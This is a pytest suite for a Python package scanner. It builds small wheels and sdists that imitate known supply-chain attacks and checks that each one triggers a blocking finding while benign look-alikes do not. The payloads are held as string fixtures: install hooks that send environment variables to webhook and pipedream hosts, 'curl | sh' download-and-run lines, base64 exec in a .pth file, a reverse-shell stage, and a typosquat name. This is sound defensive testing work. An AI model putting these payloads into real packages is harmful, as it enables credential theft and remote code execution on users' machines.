"""Known attack shapes, built as tiny wheels and sdists, must give a blocking finding;
their benign look-alikes must not. Nothing here is ever imported or run: if any of
these payloads executed, the canary file would appear.
"""

from __future__ import annotations

import base64
import io
import tarfile
import time
import zlib
from pathlib import Path

import pytest

from scanner.checks.heuristics.check import scan_distribution_file
from scanner.checks.heuristics.content import check_heuristics
from scanner.checks.interface import CheckContext
from scanner.models import DistributionFile, Finding, Inventory, Severity
from scanner.options import ScanOptions
from scanner.sources.environment import collect_environment
from tests.helpers.wheels import install_wheel, make_wheel


def make_sdist(tmp_path: Path, name: str, version: str, files: dict[str, str | bytes]) -> Path:
    """`name-version.tar.gz` with a `name-version/` top folder and a PKG-INFO."""
    base = f"{name}-{version}"
    out = tmp_path / f"{base}.tar.gz"
    members = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", **files}
    with tarfile.open(out, "w:gz") as tf:
        for path, content in members.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"{base}/{path}")
            info.size = len(data)
            info.mtime = int(time.time())
            tf.addfile(info, io.BytesIO(data))
    return out


def blocking(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity >= Severity.HIGH]


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A file that any payload below would create if it were ever executed."""
    return tmp_path / "CANARY-EXECUTED"


def _canary_code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').write('ran')\n"


# --------------------------------------------------------------------------- attacks


def lightning_wheel(tmp_path: Path, canary: Path) -> Path:
    init = (
        "import os, subprocess, sys, threading\n" + _canary_code(canary) + "def _run_runtime():\n"
        "    here = os.path.dirname(__file__)\n"
        "    subprocess.Popen([sys.executable, os.path.join(here, '_runtime', 'start.py')],\n"
        "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "threading.Thread(target=_run_runtime, daemon=True).start()\n"
    )
    start = (
        "import os, subprocess, urllib.request, zipfile\n"
        "URL = 'https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip'\n"
        "def main():\n"
        "    urllib.request.urlretrieve(URL, '/tmp/bun.zip')\n"
        "    zipfile.ZipFile('/tmp/bun.zip').extractall('/tmp/bun')\n"
        "    here = os.path.dirname(__file__)\n"
        "    subprocess.run(['/tmp/bun/bun', os.path.join(here, 'router_runtime.js')],\n"
        "                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "main()\n"
    )
    return make_wheel(
        tmp_path,
        "lightning",
        "2.6.2",
        {
            "lightning/__init__.py": init,
            "lightning/_runtime/start.py": start,
            "lightning/_runtime/router_runtime.js": "var _0x1=['\\x61'];" * 200,
        },
    )


def litellm_wheel(tmp_path: Path, canary: Path) -> Path:
    payload = base64.b64encode(_canary_code(canary).encode()).decode()
    return make_wheel(
        tmp_path,
        "litellm",
        "1.82.8",
        {
            "litellm/__init__.py": "VERSION = '1.82.8'\n",
            "litellm_init.pth": f"import base64; exec(base64.b64decode('{payload}'))\n",
        },
    )


def torchtriton_wheel(tmp_path: Path, canary: Path) -> Path:
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\x00\x3e\x00" + b"\0" * 200
    return make_wheel(
        tmp_path,
        "torchtriton",
        "2.0.0",
        {
            "triton/__init__.py": "from triton.runtime import *\n",
            "triton/runtime/__init__.py": "X = 1\n",
            "triton/runtime/triton": elf,
        },
    )


def cmdclass_sdist(tmp_path: Path, canary: Path) -> Path:
    setup = (
        "import json, os, urllib.request\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        " + _canary_code(canary) + "        body = json.dumps(dict(os.environ)).encode()\n"
        "        req = urllib.request.Request('https://webhook.site/0c7e', data=body)\n"
        "        urllib.request.urlopen(req)\n"
        "        install.run(self)\n"
        "setup(name='reqeusts', version='2.31.0', cmdclass={'install': PostInstall})\n"
    )
    return make_sdist(tmp_path, "reqeusts", "2.31.0", {"setup.py": setup})


def npm_hook_wheel(tmp_path: Path, canary: Path) -> Path:
    return make_wheel(
        tmp_path,
        "colorsx",
        "1.0.0",
        {
            "colorsx/__init__.py": "RED = '\\x1b[31m'\n",
            "colorsx/js/package.json": '{"name": "colorsx", "version": "1.0.0",'
            ' "scripts": {"postinstall": "node bundle.js"}}',
            "colorsx/js/bundle.js": "require('child_process').exec('id');",
        },
    )


ATTACKS = {
    "lightning-import-daemon": lightning_wheel,
    "litellm-pth-exec-base64": litellm_wheel,
    "torchtriton-elf-in-pure-wheel": torchtriton_wheel,
    "setup-cmdclass-env-to-webhook": cmdclass_sdist,
    "wheel-with-npm-postinstall": npm_hook_wheel,
}


@pytest.mark.parametrize("shape", sorted(ATTACKS))
def test_attack_shape_blocks(tmp_path: Path, canary: Path, shape: str) -> None:
    dist = ATTACKS[shape](tmp_path, canary)
    found = blocking(scan_distribution_file(dist))
    assert found, f"{shape}: no blocking finding"
    assert not canary.exists(), "scanned code was executed"


def test_lightning_shape_names_the_import_time_spawn(tmp_path: Path, canary: Path) -> None:
    found = blocking(scan_distribution_file(lightning_wheel(tmp_path, canary)))
    spawn_paths = [f.path or "" for f in found if f.rule_id == "WS-IMPORT-001"]
    assert any(p.endswith("lightning/__init__.py") for p in spawn_paths)
    assert "WS-JS-003" in {f.rule_id for f in found}  # start.py fetches Bun


def test_litellm_pth_is_critical_and_located(tmp_path: Path, canary: Path) -> None:
    found = [
        f
        for f in scan_distribution_file(litellm_wheel(tmp_path, canary))
        if f.rule_id == "WS-PTH-001"
    ]
    assert len(found) == 1
    assert found[0].severity == Severity.CRITICAL
    assert found[0].line == 1
    assert found[0].package == "litellm"


@pytest.mark.parametrize("shape", sorted(ATTACKS))
def test_attack_shape_blocks_through_the_check(tmp_path: Path, canary: Path, shape: str) -> None:
    dist = ATTACKS[shape](tmp_path, canary)
    inventory = Inventory(
        distribution_files=(
            DistributionFile(
                path=dist,
                kind="wheel" if dist.suffix == ".whl" else "sdist",
                name=None,
                version=None,
                sha256="0" * 64,
                size=dist.stat().st_size,
            ),
        )
    )
    assert blocking(list(check_heuristics(inventory, CheckContext(ScanOptions())).findings))


@pytest.mark.parametrize(
    "shape",
    [
        "lightning-import-daemon",
        "litellm-pth-exec-base64",
        "torchtriton-elf-in-pure-wheel",
        "wheel-with-npm-postinstall",
    ],
)
def test_installed_attack_shape_blocks(tmp_path: Path, canary: Path, shape: str) -> None:
    wheel = ATTACKS[shape](tmp_path, canary)
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    install_wheel(wheel, site)
    env = collect_environment(site)
    findings = list(
        check_heuristics(Inventory(environments=(env,)), CheckContext(ScanOptions())).findings
    )
    assert blocking(findings), shape
    assert not canary.exists()


def test_obfuscation_is_seen_through(tmp_path: Path) -> None:
    inner = base64.b64encode(b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n")
    blob = base64.b64encode(zlib.compress(inner)).decode()
    code = (
        "import zlib, base64, codecs\n"
        "_e = getattr(__import__('bui' + 'ltins'), ''.join(['ex', 'ec']))\n"
        f"_e(codecs.decode(zlib.decompress(base64.b64decode({blob!r})), 'base64'))\n"
    )
    wheel = make_wheel(tmp_path, "obf", "1.0", {"obf/__init__.py": code})
    ids = {f.rule_id for f in blocking(scan_distribution_file(wheel))}
    assert "WS-OBF-001" in ids
    assert "WS-IMPORT-003" in ids  # the decoded stage's shell download is seen, at import time


def test_python2_setup_is_read_as_python(tmp_path: Path) -> None:
    # Python 2 statements (`print x`, `exec code`, `0777`) are rewritten line by line, so
    # the AST rules see the payload, not only the text fallback
    setup = "import os, base64\nprint 'building'\nexec base64.b64decode('aW1wb3J0IG9z')\n"
    sdist = make_sdist(tmp_path, "oldpkg", "0.1", {"setup.py": setup})
    assert "WS-OBF-001" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}


def test_broken_indentation_does_not_hide_the_payload(tmp_path: Path) -> None:
    setup = (
        "import os\nfrom setuptools import setup\n"
        "def f():\n        x = 1\n    y = 2\n"  # an unindent that matches nothing
        "os.system('curl -s https://example.invalid/x.sh | bash')\n"
        " setup(name='x')\n"
    )  # an unexpected indent
    sdist = make_sdist(tmp_path, "broken", "0.1", {"setup.py": setup})
    assert "WS-SETUP-001" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}


def test_byte_order_mark_does_not_hide_the_payload(tmp_path: Path) -> None:
    setup = "\ufeffimport os\nos.system('curl -s https://example.invalid/x.sh | bash')\n"
    sdist = make_sdist(tmp_path, "bom", "0.1", {"setup.py": setup})
    assert "WS-SETUP-001" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}


def test_helper_module_that_setup_imports_runs_at_install(tmp_path: Path) -> None:
    helper = (
        "import subprocess\n"
        "def pre_install():\n"
        "    subprocess.run('curl -d \"$(env)\" https://x.m.pipedream.net', shell=True)\n"
    )
    setup = (
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "from pre_install import pre_install\n"
        "class I(install):\n    def run(self):\n        pre_install()\n"
        "setup(name='h', cmdclass={'install': I})\n"
    )
    sdist = make_sdist(tmp_path, "h", "0.1", {"setup.py": setup, "pre_install.py": helper})
    assert "WS-EXFIL-002" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}


def test_function_registered_with_atexit_runs_at_install(tmp_path: Path) -> None:
    # a callback handed to atexit.register (or a pool, or a signal handler) is called
    setup = (
        "import atexit, requests\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class I(install):\n    def __init__(self, *a, **k):\n"
        "        super().__init__(*a, **k)\n        atexit.register(_post)\n"
        "def _post():\n    ip = requests.get('https://api.ipify.org').text\n"
        "    requests.get('https://example.invalid/?' + ip)\n"
        "setup(name='a', cmdclass={'install': I})\n"
    )
    sdist = make_sdist(tmp_path, "a", "0.1", {"setup.py": setup})
    assert "WS-SETUP-002" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}


def test_python_source_written_to_disk_is_analysed(tmp_path: Path) -> None:
    setup = (
        "import subprocess\nfrom setuptools import setup\n"
        'CODE = """\nimport socket, os, subprocess\n'
        "def linux(sock):\n    os.dup2(sock.fileno(), 0)\n"
        '    subprocess.call(["/bin/bash", "-i"])\n'
        'def main():\n    s = socket.socket()\n    linux(s)\n"""\n'
        'with open("stage2.py", "w") as fh:\n    fh.write(CODE)\n'
        'subprocess.Popen(["python3", "stage2.py"])\n'
        'setup(name="w")\n'
    )
    sdist = make_sdist(tmp_path, "w", "0.1", {"setup.py": setup})
    assert "WS-DROP-003" in {f.rule_id for f in blocking(scan_distribution_file(sdist))}


# --------------------------------------------------------------------------- look-alikes


def benign_setuptools_like(tmp_path: Path) -> Path:
    return make_wheel(
        tmp_path,
        "setuptools",
        "80.9.0",
        {
            "distutils-precedence.pth": (
                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; "
                "enabled = os.environ.get(var, 'local') == 'local'; "
                "enabled and __import__('_distutils_hack').add_shim(); \n"
            ),
            "_distutils_hack/__init__.py": "import sys, os\n\ndef add_shim():\n    pass\n",
            "setuptools/cli-64.exe": b"MZ\x90\x00" + b"\0" * 100,
        },
    )


def benign_editable(tmp_path: Path) -> Path:
    return make_wheel(
        tmp_path,
        "myproj",
        "0.1.0",
        {
            "__editable__.myproj-0.1.0.pth": "import __editable___myproj_0_1_0_finder; "
            "__editable___myproj_0_1_0_finder.install()\n",
            "__editable___myproj_0_1_0_finder.py": "import sys\n\ndef install():\n    pass\n",
        },
    )


def benign_subprocess_user(tmp_path: Path) -> Path:
    return make_wheel(
        tmp_path,
        "gitwrap",
        "1.2.0",
        {
            "gitwrap/__init__.py": (
                "import os, subprocess, sys\n"
                "def run(*args, quiet=False):\n"
                "    out = subprocess.DEVNULL if quiet else None\n"
                "    return subprocess.run(['git', *args], stdout=out, check=True)\n"
                "def nvidia():\n"
                "    return subprocess.check_output(\n"
                "        ['nvidia-smi', '-L'], stderr=subprocess.DEVNULL)\n"
            ),
            "gitwrap/_version.py": (
                "import subprocess\n"
                "try:\n"
                "    __version__ = subprocess.check_output(['git', 'describe'],\n"
                "                                          stderr=subprocess.DEVNULL).decode()\n"
                "except Exception:\n"
                "    __version__ = '0'\n"
            ),
        },
    )


def benign_nspkg(tmp_path: Path) -> Path:
    line = (
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
        "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));"
        "importlib = has_mfs and __import__('importlib.util');"
        "has_mfs and __import__('importlib.machinery');"
        "m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec("
        "importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));"
        "m = m or sys.modules.setdefault('google', types.ModuleType('google'));"
        "mp = (m or []) and m.__dict__.setdefault('__path__',[]);"
        "(p not in mp) and mp.append(p)\n"
    )
    return make_wheel(
        tmp_path,
        "googleapis-common-protos",
        "1.0",
        {
            "googleapis_common_protos-1.0-py3.9-nspkg.pth": line,
            "google/api/__init__.py": "",
        },
    )


def benign_cmake_sdist(tmp_path: Path) -> Path:
    setup = (
        "import os, subprocess, sys\n"
        "from setuptools import setup, Extension\n"
        "from setuptools.command.build_ext import build_ext\n"
        "class CMakeBuild(build_ext):\n"
        "    def run(self):\n"
        "        env = os.environ.copy()\n"
        "        subprocess.check_call(['cmake', '-S', '.', '-B', 'build'], env=env)\n"
        "        subprocess.check_call(['cmake', '--build', 'build'])\n"
        "setup(name='fastthing', version='1.0', cmdclass={'build_ext': CMakeBuild},\n"
        "      ext_modules=[Extension('fastthing._c', [])])\n"
    )
    return make_sdist(tmp_path, "fastthing", "1.0", {"setup.py": setup})


LABEXT = "widgetz-3.0.data/data/share/jupyter/labextensions/widgetz"


def benign_jupyter_assets(tmp_path: Path) -> Path:
    return make_wheel(
        tmp_path,
        "widgetz",
        "3.0",
        {
            "widgetz/__init__.py": "def _jupyter_labextension_paths():\n    return []\n",
            f"{LABEXT}/package.json": (
                '{"name": "widgetz", '
                '"scripts": {"build": "jlpm build:lib", "prepare": "jlpm build"}}'
            ),
            f"{LABEXT}/static/remoteEntry.js": "var a=function(){eval('1')};" * 500,
        },
    )


BENIGN = {
    "setuptools-distutils-precedence": benign_setuptools_like,
    "editable-install-pth": benign_editable,
    "legit-subprocess-user": benign_subprocess_user,
    "namespace-nspkg-pth": benign_nspkg,
    "cmake-build-sdist": benign_cmake_sdist,
    "jupyter-js-bundle": benign_jupyter_assets,
}


@pytest.mark.parametrize("shape", sorted(BENIGN))
def test_benign_look_alike_does_not_block(tmp_path: Path, shape: str) -> None:
    findings = scan_distribution_file(BENIGN[shape](tmp_path))
    assert not blocking(findings), [(f.rule_id, f.path, f.evidence) for f in findings]


def test_benign_environment_does_not_block(tmp_path: Path) -> None:
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    for shape in (
        "setuptools-distutils-precedence",
        "editable-install-pth",
        "legit-subprocess-user",
        "namespace-nspkg-pth",
    ):
        install_wheel(BENIGN[shape](tmp_path), site)
    env = collect_environment(site)
    findings = list(
        check_heuristics(Inventory(environments=(env,)), CheckContext(ScanOptions())).findings
    )
    assert not blocking(findings), [(f.rule_id, f.path) for f in findings]


def test_loose_sitecustomize_in_site_packages_blocks(tmp_path: Path) -> None:
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    install_wheel(BENIGN["legit-subprocess-user"](tmp_path), site)
    (site / "sitecustomize.py").write_text("import os\n")
    env = collect_environment(site)
    findings = list(
        check_heuristics(Inventory(environments=(env,)), CheckContext(ScanOptions())).findings
    )
    assert "WS-STARTUP-001" in {f.rule_id for f in blocking(findings)}


def test_record_rows_outside_the_environment_are_not_read(tmp_path: Path) -> None:
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    dist_info = install_wheel(BENIGN["legit-subprocess-user"](tmp_path), site)
    outside = tmp_path / "outside.py"
    outside.write_text("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n")
    with (dist_info / "RECORD").open("a") as fh:
        fh.write(f"{outside},,\n")
    env = collect_environment(site)
    findings = list(
        check_heuristics(Inventory(environments=(env,)), CheckContext(ScanOptions())).findings
    )
    assert not [f for f in findings if "outside.py" in (f.path or "")]
